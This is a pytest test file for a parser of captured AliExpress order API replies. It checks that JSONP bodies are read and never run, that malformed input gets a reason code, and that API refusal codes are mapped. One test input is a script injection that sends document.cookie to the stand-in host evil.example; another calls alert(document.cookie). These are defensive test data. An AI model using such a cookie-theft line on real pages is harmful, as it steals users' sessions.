import json

import pytest

from companion.reading.records import Record
from tests.reading.invented import DETAIL, LIST, ORDER, codes, listed_order, only, order_list, read, record, reply

BODY = json.dumps(order_list(listed_order()))


@pytest.mark.parametrize(
    "body",
    [
        f"mtopjsonp1({BODY})",
        f"  mtopjsonp77 ( {BODY} ) ;\n",
        f"/**/ typeof cb === 'function' && cb({BODY});",
        f"window['alert'](({BODY}))",
        f"\ufeff{BODY}",
        f"fetch('//evil.example?'+document.cookie);x({BODY})",
    ],
)
def test_jsonp_of_any_callback_is_read_and_never_run(body: str) -> None:
    assert only(body).order.id == ORDER


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("", "empty"),
        ("  \n", "empty"),
        (BODY[: len(BODY) // 2], "truncated"),
        (f"cb({BODY[: len(BODY) // 2]}", "truncated"),
        ("<!DOCTYPE html><html><body>Sign in</body></html>", "web-page"),
        ("alert(document.cookie)", "not-json"),
        ("not json at all", "not-json"),
        ("{'single': 'quotes'}", "not-json"),
        ('{"a": NaN}', "not-json"),
        ("[" * 100_000, "too-deep"),
        ('{"a":' * 50_000 + "1" + "}" * 50_000, "too-deep"),
        ('"' + "x" * 2_000_001 + '"', "too-large"),
        ("null", "not-json"),
        ("[]", "not-of-interest"),
        ('{"recommend": [{"productId": 1}]}', "not-of-interest"),
        (json.dumps(reply("mtop.relationrecommend.aliexpressrecommend.recommend", {})), "not-of-interest"),
    ],
)
def test_a_body_that_is_no_order_reply_is_left_with_its_reason(body: str, code: str) -> None:
    assert codes(read(body)) == [code]


@pytest.mark.parametrize(
    ("ret", "code"),
    [
        ("FAIL_SYS_SESSION_EXPIRED::session expired", "session-expired"),
        ("FAIL_SYS_TOKEN_EMPTY::empty", "token-expired"),
        ("FAIL_SYS_TOKEN_EXOIRED::expired", "token-expired"),
        ("FAIL_SYS_USER_VALIDATE::RGV587_ERROR::SM", "captcha"),
        ("FAIL_SYS_TRAFFIC_LIMIT::slow", "traffic-limit"),
        ("FAIL_BIZ_SOMETHING::else", "refused-by-page"),
    ],
)
def test_each_refusal_of_the_page_has_its_own_reason(ret: str, code: str) -> None:
    assert codes(read(reply(LIST, {}, ret))) == [code]
    assert codes(read({"api": DETAIL, "ret": ret, "data": {}})) == [code]


def test_the_address_names_the_reply_when_the_reply_does_not() -> None:
    nameless = order_list(listed_order())
    del nameless["api"]
    url = f"https://acs.aliexpress.com/h5/{LIST}/1.0/?data=%7B%7D"
    assert only(record(nameless, url)).order.id == ORDER
    assert codes(read(record(nameless, "https://acs.aliexpress.com/h5/mtop.other.thing/1.0/"))) == ["not-of-interest"]


def test_a_record_without_anything_in_it_is_empty() -> None:
    assert codes(read(Record(url=None, body=None))) == ["empty"]


def test_one_broken_record_does_not_cost_the_others() -> None:
    reading = read("{", order_list(listed_order()), "<html>")
    assert [facts.order.id for facts in reading.orders] == [ORDER]
    assert codes(reading) == ["truncated", "web-page"]


@pytest.mark.parametrize(
    ("printed", "read_as"),
    [
        (r"Kite shop \ud83d", "Kite shop"),
        (r"\uDE00Kite\uD83D shop", "Kite shop"),
        (r"Kite \ud83d\ud83d\ude00 shop", "Kite 😀 shop"),
        (r"Kite \ude00\ud83d\ude00\ude00 shop", "Kite 😀 shop"),
        (r"Kite \\ud83d shop \ud83d", r"Kite \ud83d shop"),
    ],
)
def test_a_name_that_was_cut_within_an_emoji_is_read_without_its_half(printed: str, read_as: str) -> None:
    assert only(BODY.replace("Paper Kite Workshop", printed)).order.store == read_as


def test_half_an_emoji_makes_no_json_of_what_is_none() -> None:
    assert codes(read(BODY.replace("Paper Kite Workshop", r"Kite \ud83d \x shop"))) == ["not-json"]
    assert codes(read(BODY.replace("Paper Kite Workshop", r"Kite \ud83d")[:-20])) == ["truncated"]


def test_a_refusal_of_some_other_call_is_not_of_interest() -> None:
    refused = {"api": "mtop.other.thing", "ret": ["FAIL_SYS_TRAFFIC_LIMIT::slow"], "data": {}}
    assert codes(read(refused)) == ["not-of-interest"]
    assert codes(read({"ret": ["FAIL_SYS_TRAFFIC_LIMIT::slow"], "data": {}})) == ["traffic-limit"]
